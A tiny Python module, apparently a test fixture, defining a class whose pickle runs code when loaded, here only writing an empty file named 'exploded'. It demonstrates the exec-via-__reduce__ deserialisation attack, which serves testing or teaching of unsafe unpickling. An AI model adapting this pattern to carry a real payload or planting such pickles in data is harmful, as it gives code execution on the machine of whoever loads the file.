"""A pickle that runs code where it is read."""

from typing import Any


class Bomb:
    """Whose pickle writes a file called `exploded` to the current folder."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, ("import pathlib; pathlib.Path('exploded').write_text('')",)
